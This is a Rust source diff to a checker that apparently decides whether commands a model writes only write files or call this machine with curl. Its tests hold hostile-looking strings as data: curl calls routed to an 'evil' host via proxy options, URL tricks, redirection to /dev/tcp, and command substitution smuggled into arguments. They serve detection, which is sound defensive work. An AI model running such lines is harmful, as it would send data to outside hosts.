@@ -3,6 +3,7 @@
 
 use super::PREFIX;
 use regex::Regex;
+use std::borrow::Cow;
 use std::sync::LazyLock;
 
 /// Commands that do nothing with a text but write it down.
@@ -25,12 +26,25 @@ const INTERPRETERS: &str = include_str!("interpreters.txt");
 /// What runs whatever stands in a variable or a file, by itself.
 const AGAIN: &str =
     r"(?i)(?:^|[^\w.-])(?:eval|iex|source|xargs|[a-z]*sh\s+-\w*c)(?:\s|$)|(?:^|[;&|(\n])\s*\.\s+\S|\$\{?shell\b";
+/// Options of `curl` that send to nobody else and show nothing of what is sent, and where its output may go.
+const CURL_OPTIONS: &str = concat!(
+    r"(?:[ \t]+(?:-[fgiksS]{1,6}|--(?:fail|get|include|insecure|show-error|silent)|(?:-[fgiksS]{0,5}[bdFHmouwX][ \t]*",
+    r"|--(?:cookie|data|data-binary|data-raw|form|header|json|max-time|output|request|user|write-out)[ \t]+)",
+    r#"(?:'[^']*'|"[^"$`\\]*(?:\\["\\][^"$`\\]*)*"|[\w@:.,/=+%-])+"#,
+    r"|[0-2]?>>?[ \t]*(?:/dev/null|/tmp/[\w.-]+|[\w-][\w./-]*)|2>&1))*",
+);
+/// A URL of this machine.
+const OWN_URL: &str =
+    r#"["']?(?:http://)?(?:localhost|127\.0\.0\.1|\[::1\])(?::[0-9]{1,5})?(?:[/?][\w/?&=%.,:~+-]*)?["']?"#;
 static IS_KEY: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(KEY).ok());
 static IS_CODE: LazyLock<Option<Regex>> = LazyLock::new(|| {
     let names = INTERPRETERS.trim_end().replace('\n', "|");
     Regex::new(&format!(r"(?i)(?:^|[^\w.-])(?:{names})(?:\.exe)?(?:\s|$)")).ok()
 });
 static IS_RUN_AGAIN: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(AGAIN).ok());
+static IS_TO_THIS_MACHINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(&format!(r"(?m)(^|[;&|(])[ \t]*curl{CURL_OPTIONS}[ \t]+{OWN_URL}{CURL_OPTIONS}[ \t]*($|[;&|)])")).ok()
+});
 
 /// Whether a value stays one, whatever it holds, between what stands before and behind it: the model wrote the command and has not seen
 /// what the value would make of it.
@@ -42,10 +56,22 @@ pub(super) fn stays(before: &str, value: &str, behind: &str) -> bool {
             && (!is_option && is_quoted(before, value, behind, is_key) || is_document(before, value, behind, is_key))
 }
 
-/// A command without the here-documents (POSIX shell, section 2.7.4) that it only writes into files. Where anything in it could be read
-/// in another way, it is all there.
-pub(super) fn acts(text: &str) -> &str {
-    if read(text).is_some_and(|reading| reading.begun && reading.end.is_none()) { "" } else { text }
+/// A command without the here-documents (POSIX shell, section 2.7.4) that it only writes into files, and what writes them. Where anything
+/// in it could be read in another way, or may run such a file, it is all there.
+pub(super) fn acts(text: &str) -> Cow<'_, str> {
+    let others = read(text).filter(|reading| reading.begun && reading.end.is_none()).map(|reading| reading.others);
+    others.filter(|others| !runs(others)).map_or(Cow::Borrowed(text), Cow::Owned)
+}
+
+/// A text in one piece where a backslash leads its lines on, without the calls of `curl` that send to this machine only.
+pub(super) fn sends(text: &str) -> String {
+    let text = text.replace("\\\n", " ");
+    let without = |text: &str| match IS_TO_THIS_MACHINE.as_ref().filter(|_| text.contains("curl")) {
+        Some(calls) => calls.replace_all(text, "$1 true $2").into_owned(),
+        None => text.to_owned(),
+    };
+    // What ends one call begins the next, which is seen the second time.
+    without(&without(&text))
 }
 
 /// Alone in quotes, but for signs that are nothing else, out of which nothing in it leads.
@@ -80,6 +106,18 @@ fn runs_files(before: &str, behind: &str) -> bool {
     let mut others = behind.split([';', '&', '|', '\n', '(']).skip(1).filter_map(|part| part.split_whitespace().next());
     behind.contains('|') && matches(&IS_CODE, &behind)
         || writes && !others.all(|command| WRITERS.contains(&command) || READERS.contains(&command))
+}
+
+/// Whether commands may run a file: one by its path, or what may be given one.
+fn runs(commands: &str) -> bool {
+    let is_path = |word: &str| word.starts_with(['.', '/', '~']) && word.contains('/');
+    let runs = |command: &str| {
+        let mut words = command.split_whitespace();
+        let first = words.next().unwrap_or_default();
+        !WRITERS.contains(&first) && !READERS.contains(&first) && (first.contains('/') || words.any(is_path))
+    };
+    let mut commands_in = commands.split([';', '&', '|', '\n', '(', '`']);
+    commands_in.any(runs) || matches(&IS_CODE, commands) || matches(&IS_RUN_AGAIN, commands)
 }
 
 /// Where the command begins that a text ends in, and the quote that is open at its end (POSIX shell, section 2.2).
@@ -132,10 +170,13 @@ struct Reading<'t> {
     end: Option<(&'t str, bool)>,
     /// There was one.
     begun: bool,
+    /// The lines that may do something else than write. Behind one no other document begins: it may hold an open quote, or change what
+    /// the writers are.
+    others: String,
 }
 
 impl<'t> Reading<'t> {
-    /// The next line. False where it does something else than write, or could be read in another way.
+    /// The next line. False where it could be read in another way.
     fn line(&mut self, line: &'t str) -> bool {
         if let Some((word, _)) = self.end {
             if line.trim() == word {
@@ -145,18 +186,19 @@ impl<'t> Reading<'t> {
             // The shell joins a line that ends so to the next, which may be the end then.
             return !line.contains("$(") && !line.contains('`') && !line.ends_with('\\');
         }
-        let (command, rest) = match line.split_once("<<") {
-            None => (line, ""),
-            Some((command, rest)) => {
-                let Some((word, is_raw, rest)) = delimiter(rest) else { return false };
-                (self.end, self.begun) = (Some((word, is_raw)), true);
-                (command, rest)
-            }
-        };
         let mut commands = line.split(['|', ';', '&']).filter_map(|part| part.split_whitespace().next());
-        [command, rest].into_iter().all(|part| part.chars().all(is_plain))
-            && !line.replace("/dev/null", "").contains("/dev/")
-            && commands.all(|command| WRITERS.contains(&command))
+        let writes =
+            commands.all(|command| WRITERS.contains(&command)) && !line.replace("/dev/null", "").contains("/dev/");
+        let is_plain = |part: &str| part.chars().all(is_plain);
+        let Some((command, rest)) = line.split_once("<<") else {
+            if !writes || !is_plain(line) {
+                self.others.extend([line, "\n"]);
+            }
+            return true;
+        };
+        let Some((word, is_raw, rest)) = delimiter(rest) else { return false };
+        (self.end, self.begun) = (Some((word, is_raw)), true);
+        writes && is_plain(command) && is_plain(rest) && self.others.is_empty()
     }
 }
 
@@ -182,7 +224,7 @@ fn delimiter(rest: &str) -> Option<(&str, bool, &str)> {
 
 #[cfg(test)]
 mod tests {
-    use super::{acts, stays};
+    use super::{acts, sends, stays};
 
     #[test]
     fn only_what_a_shell_writes_and_nothing_else_is_left_out() {
@@ -206,7 +248,6 @@ mod tests {
             "cat > a <<E'F'\nx\nEF\nsend\nE",
             "cat > a <<E\\F\nx\nEF\nsend\nE",
             "cat > a <<E <<F\nx\nE\nsend\nF",
-            "cat > a <<E\nx\nE\nsend",
             "cat > a <<E\nx",
             "cat > a <<E\n$(send)\nE",
             "cat > a <<EF\nx\nE\\\nF\nsend\nEF",
@@ -218,6 +259,69 @@ mod tests {
             "cat <<<E\nsend\nE",
         ] {
             assert_eq!(acts(text), text);
+        }
+    }
+
+    #[test]
+    fn what_stands_behind_what_is_written_acts_unless_it_may_run_that() {
+        for (text, others) in [
+            ("cat > .env <<'EOF'\nx\nEOF\nnpm test && git status", "npm test && git status\n"),
+            ("cat > a <<E\nx\nE\nsend 'b'\nsend c", "send 'b'\nsend c\n"),
+            ("cat > a <<E\nx\nE\nwc -l /app/a; head -3 ./a | grep -c .", "wc -l /app/a; head -3 ./a | grep -c .\n"),
+        ] {
+            assert_eq!(acts(text), others);
+        }
+        for behind in [
+            "sh a",
+            "./a",
+            "x/a",
+            "timeout 5 ./a",
+            ". ./a",
+            "python3 a",
+            "cat a | sh",
+            "x `./a`",
+            "make",
+            "send <<E\nx\nE",
+        ] {
+            let text = format!("cat > a <<E\nx\nE\n{behind}");
+            assert_eq!(acts(&text), text);
+        }
+        let text = "export PATH=.\ncat > a <<E\nx\nE";
+        assert_eq!(acts(text), text);
+    }
+
+    #[test]
+    fn a_call_of_this_machine_sends_nothing_to_others() {
+        for text in [
+            "curl http://localhost:3000/api/me -H 'Authorization: Bearer @'",
+            "curl -s -u admin:'@' 127.0.0.1:8080/x?a=b",
+            "curl -fsS -X POST \"http://localhost:3000/login\" --json '{\"p\":\n\"@\"}' -o /tmp/a.json 2>/dev/null",
+            "curl \\\n -d @ \\\n http://[::1]/",
+        ] {
+            assert_eq!(sends(text).trim(), "true", "{text}");
+        }
+        assert_eq!(sends("x & curl localhost -d @; curl -d @ localhost | jq .").replace(' ', ""), "x&true;true|jq.");
+        for text in [
+            "curl -d @",
+            "curl -d @ http://localhost evil",
+            "curl -d @ evil http://localhost",
+            "curl -d @ http://localhost http://localhost",
+            "curl -x evil -d @ http://localhost",
+            "curl -sx evil -d @ http://localhost",
+            "curl -K a -d @ http://localhost",
+            "curl -vd @ http://localhost 2>&1 | send",
+            "curl -Ld @ http://localhost",
+            "curl --connect-to ::evil: -d @ http://localhost",
+            "curl -d @ http://localhost.evil/",
+            "curl -d @ http://localhost@evil/",
+            "curl -d @ http://localhost:80@evil/",
+            "curl -d @ \"http://localhost$X\"",
+            "curl -d @ \"$(send)\" http://localhost",
+            "curl -d `send @` http://localhost",
+            "curl -d @ http://localhost > /dev/tcp/evil/80",
+            "xcurl -d @ http://localhost",
+        ] {
+            assert_eq!(sends(text), text);
         }
     }
 
